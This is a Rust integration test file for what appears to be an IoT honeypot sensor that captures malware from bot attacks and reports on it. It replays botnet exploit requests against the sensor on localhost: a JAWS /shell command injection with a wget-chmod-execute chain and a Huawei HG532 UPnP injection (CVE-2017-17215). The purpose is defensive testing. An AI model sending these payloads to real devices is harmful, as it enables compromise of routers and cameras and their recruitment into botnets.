//! The HTTP door of the real binary: an exploit as a bot sends it (to our own sensor
//! on 127.0.0.1, its download URL at a test server on 127.0.0.1) runs on the device,
//! fetches and stores the payload with its triage, answers as the endpoint does,
//! and leaves the file where the same source finds it over telnet.

#![allow(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout
)]

mod util;

use std::io::{Read, Write};
use std::time::Duration;

use util::{http_server, source, synthetic_elf, Sensor};

/// One request on its own connection, from `src`; the whole answer.
fn request(addr: std::net::SocketAddr, src: std::net::IpAddr, bytes: &[u8]) -> String {
    let mut stream = util::tcp_from(addr, src).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    stream.write_all(bytes).unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).unwrap();
    String::from_utf8_lossy(&answer).into_owned()
}

#[test]
fn an_exploit_drops_a_stored_sample_that_the_same_source_finds_over_telnet() {
    let binary = synthetic_elf((1, 1, 40), 3000);
    let sha = util::sha256_hex(&binary);
    let files = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = files.local_addr().unwrap().port();
    let seen = http_server(vec![files], vec![("/x.arm7".to_string(), binary.clone())]);
    let sensor = Sensor::start_http(
        "profile = \"xiongmai-dvr\"\n[fetch]\nenabled = true\nallow = [\"127.0.0.1/32\"]\ntimeout = \"10s\"\n",
    );
    let http = sensor.http.unwrap();
    let bot = source(7);
    let query =
        format!("cd+/var;wget+http://127.0.0.1:{port}/x.arm7;chmod+777+x.arm7;./x.arm7+jaws");
    let answer = request(
        http,
        bot,
        format!(
            "GET /shell?{query} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nUser-Agent: Hello, world\r\n\r\n",
            http.port()
        )
        .as_bytes(),
    );
    let (head, body) = answer.split_once("\r\n\r\n").unwrap();
    assert!(
        head.starts_with("HTTP/1.1 200 OK\r\nServer: JAWS/1.0\r\nDate: "),
        "{head}"
    );
    assert!(
        head.ends_with(&format!(
            "\r\nConnection: close\r\nContent-type: text/html\r\nContent-Length: {}",
            body.len()
        )),
        "{head}"
    );
    assert_eq!(
        body, "listening tun0\n",
        "stdout is the page (wget's progress went to stderr)"
    );
    assert_eq!(
        seen.recv_timeout(Duration::from_secs(5)).unwrap(),
        "127.0.0.1 /x.arm7"
    );

    let events = sensor.wait_for_events("the HTTP session closed", |e| {
        e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
    });
    let session = events[0]["session"].as_str().unwrap().to_string();
    let ids: Vec<&str> = events
        .iter()
        .filter(|v| v["session"] == session.as_str())
        .map(|v| v["eventid"].as_str().unwrap())
        .collect();
    assert_eq!(
        ids,
        [
            "cowrie.session.connect",
            "busybait.exploit",
            "cowrie.command.input",
            "busybait.download.request",
            "busybait.command.exec",
            "busybait.http.request",
            // The file is captured as the command's shell ends, with the answer.
            "cowrie.session.file_download",
            "busybait.sample.triage",
            "busybait.session.family",
            "busybait.session.end",
            "cowrie.session.closed",
        ]
    );
    assert!(events.iter().all(|v| v["protocol"] == "http"));
    let exploit = events
        .iter()
        .find(|v| v["eventid"] == "busybait.exploit")
        .unwrap();
    assert_eq!(exploit["exploit"], "jaws-shell");
    assert_eq!(
        exploit["urls"][0],
        format!("http://127.0.0.1:{port}/x.arm7")
    );
    let download = events
        .iter()
        .find(|v| v["eventid"] == "cowrie.session.file_download")
        .unwrap();
    assert_eq!(download["shasum"], sha.as_str());
    assert_eq!(download["destfile"], "/var/x.arm7");
    let stored = sensor.data_dir.path().join("samples").join(&sha);
    assert_eq!(std::fs::read(&stored).unwrap(), binary);
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&stored).unwrap().permissions().mode() & 0o333,
        0
    );

    // The same source, now over telnet, on the same device.
    let mut telnet = sensor.connect_from(bot);
    telnet.login();
    telnet.send(b"ls -l /var/x.arm7\r\n");
    let out = telnet.read_until(b"# ", Duration::from_secs(10));
    let text = String::from_utf8_lossy(&out);
    assert!(
        text.contains("-rwxrwxrwx    1 root     root          3000 "),
        "{text}"
    );
    sensor.well_behaved();

    // Stopped (its stores flushed), the report counts the exploit and the path.
    let (dir, _) = sensor.stop();
    let report = |args: &[&str]| {
        let args: Vec<&str> = ["report"].iter().chain(args).copied().collect();
        String::from_utf8(util::cli(dir.path(), &args)).unwrap()
    };
    let r: serde_json::Value = serde_json::from_str(&report(&["--json"])).unwrap();
    assert_eq!(
        r["top_exploits"],
        serde_json::json!([{"value": "jaws-shell", "count": 1}])
    );
    assert_eq!(
        r["top_paths"],
        serde_json::json!([{"value": "GET /shell", "count": 1}])
    );
    let text = report(&[]);
    assert!(
        text.contains("Top exploits") && text.contains("jaws-shell"),
        "{text}"
    );
}

#[test]
fn exploits_with_a_cve_reach_stix_and_misp_as_vulnerabilities() {
    // The gateway's HG532 endpoint, on a port no entry names (so every entry is
    // served), with a harmless command.
    let sensor = Sensor::start_http("profile = \"gateway-hg532\"\n");
    let http = sensor.http.unwrap();
    let body = "<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(echo hi)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>";
    let answer = request(
        http,
        source(9),
        format!(
            "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 127.0.0.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANPPPConnection:1#Upgrade\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .as_bytes(),
    );
    assert!(answer.starts_with("HTTP/1.1 200 OK\r\n"), "{answer}");
    assert!(answer.ends_with("<u:UpgradeResponse xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"></u:UpgradeResponse></s:Body></s:Envelope>"), "{answer}");
    sensor.wait_for_events("the HTTP session closed", |e| {
        e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
    });
    let (dir, _) = sensor.stop();
    let export = |format: &str| {
        let args = ["export", "--include-private", "--format", format];
        String::from_utf8(util::cli(dir.path(), &args)).unwrap()
    };
    let stix = export("stix");
    util::stix_validate(&stix).unwrap_or_else(|report| panic!("{report}\n{stix}"));
    let bundle: serde_json::Value = serde_json::from_str(&stix).unwrap();
    let of_type = |t: &str| -> Vec<serde_json::Value> {
        bundle["objects"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|o| o["type"] == t)
            .cloned()
            .collect()
    };
    let patterns = of_type("attack-pattern");
    assert_eq!(patterns.len(), 1);
    assert_eq!(patterns[0]["name"], "huawei-hg532-upgrade");
    let vulnerabilities = of_type("vulnerability");
    assert_eq!(vulnerabilities.len(), 1);
    assert_eq!(vulnerabilities[0]["name"], "CVE-2017-17215");
    assert_eq!(
        vulnerabilities[0]["external_references"],
        serde_json::json!([{"source_name": "cve", "external_id": "CVE-2017-17215"}])
    );
    let targets: Vec<serde_json::Value> = of_type("relationship")
        .into_iter()
        .filter(|r| r["relationship_type"] == "targets")
        .collect();
    assert_eq!(targets.len(), 1);
    assert_eq!(targets[0]["source_ref"], patterns[0]["id"]);
    assert_eq!(targets[0]["target_ref"], vulnerabilities[0]["id"]);

    let (attributes, _, _) = util::misp_load(&export("misp"));
    assert!(
        attributes.contains(&vec![
            "vulnerability".to_string(),
            "CVE-2017-17215".to_string()
        ]),
        "{attributes:?}"
    );
}

#[test]
fn a_profile_without_a_web_server_refuses_http_listeners_and_says_which_have_one() {
    // An operator's profile: the DVR without its [http] section.
    let dvr = include_str!("../../../profiles/xiongmai-dvr.toml");
    let quiet = dvr[..dvr.find("\n[http]").unwrap()]
        .replace("name = \"xiongmai-dvr\"", "name = \"quiet-dvr\"");
    let dir = tempfile::tempdir().unwrap();
    let profiles = dir.path().join("profiles");
    std::fs::create_dir(&profiles).unwrap();
    std::fs::write(profiles.join("quiet-dvr.toml"), quiet).unwrap();
    let config = dir.path().join("busybait.toml");
    std::fs::write(
        &config,
        format!("profiles_dir = {:?}\n", profiles.display().to_string()),
    )
    .unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_busybait"))
        .args(["serve", "--profile", "quiet-dvr", "--telnet", "127.0.0.1:0"])
        .args(["--http", "127.0.0.1:0", "--config"])
        .arg(&config)
        .arg("--data-dir")
        .arg(dir.path().join("data"))
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(out.stdout.is_empty(), "no listener may be announced");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("profile quiet-dvr has no web server ([http]): drop --http, or choose a profile with one: xiongmai-dvr, ipcam-mipsel, router-mips, gateway-hg532, ont-gpon, oracle"),
        "{stderr}"
    );
}

/// Every exploit of the table, as a bot sends it, through the real binary on a
/// profile that exposes it, with `[fetch]` on: the command runs, the payload is
/// fetched from a test server on 127.0.0.1, stored, triaged and labelled, and the
/// endpoint answers with its status.
#[test]
fn every_exploit_drops_its_payload_through_the_real_binary() {
    let table = busybait_intel::exploits::Table::builtin();
    let profiles = busybait_device::profile::Profile::builtin().unwrap();
    let files = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = files.local_addr().unwrap().port();
    // A payload of its own per exploit (so that each is new and triaged): a MIPS
    // big-endian ELF header and filler.
    let payloads: Vec<(String, Vec<u8>)> = table
        .entries
        .iter()
        .enumerate()
        .map(|(i, e)| (e.name.clone(), synthetic_elf((1, 2, 8), 2000 + i * 16)))
        .collect();
    let _seen = http_server(
        vec![files],
        payloads
            .iter()
            .map(|(name, data)| (format!("/{name}"), data.clone()))
            .collect(),
    );
    for (i, entry) in table.entries.iter().enumerate() {
        let profile = profiles
            .iter()
            .find(|p| {
                p.http
                    .as_ref()
                    .is_some_and(|h| h.exploits.contains(&entry.name))
            })
            .unwrap();
        // Every profile has wget here (the router's stock build has only tftp).
        let sensor = Sensor::start_http(&format!(
            "profile = \"{}\"\ndownload_tools = [\"wget\", \"tftp\"]\n[fetch]\nenabled = true\nallow = [\"127.0.0.1/32\"]\ntimeout = \"10s\"\n",
            profile.name
        ));
        let http = sensor.http.unwrap();
        let dir = if profile.mounts.contains("tmpfs /tmp ") {
            "/tmp"
        } else {
            "/var"
        };
        let name = &entry.name;
        let cmd = format!(
            "cd {dir}; wget http://127.0.0.1:{port}/{name}; chmod 777 {name}; ./{name} {name}"
        );
        let (_, bytes) = busybait_pcapgen::exploits::request(name, &cmd);
        let answer = request(http, source(300 + i), &bytes);
        let status = format!("HTTP/1.1 {} ", entry.response.status);
        assert!(answer.starts_with(&status), "{name}: {answer}");
        let sha = util::sha256_hex(&payloads[i].1);
        let events = sensor.wait_for_events(name, |e| {
            e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
        });
        let of = |id: &str| -> Vec<&serde_json::Value> {
            events.iter().filter(|v| v["eventid"] == id).collect()
        };
        assert_eq!(
            of("busybait.exploit")[0]["exploit"],
            name.as_str(),
            "{name}"
        );
        assert_eq!(
            of("busybait.download.request")[0]["url"],
            format!("http://127.0.0.1:{port}/{name}"),
            "{name}"
        );
        let stored = of("cowrie.session.file_download");
        assert!(
            stored.iter().any(|v| v["shasum"] == sha.as_str()
                && v["destfile"] == format!("{dir}/{name}").as_str()),
            "{name}: {stored:?}"
        );
        let triage = of("busybait.sample.triage");
        assert!(
            triage
                .iter()
                .any(|v| v["shasum"] == sha.as_str() && v["kind"] == "elf"),
            "{name}: {triage:?}"
        );
        assert_eq!(of("busybait.session.family").len(), 1, "{name}");
        assert!(events.iter().all(|v| v["protocol"] == "http"), "{name}");
    }
}
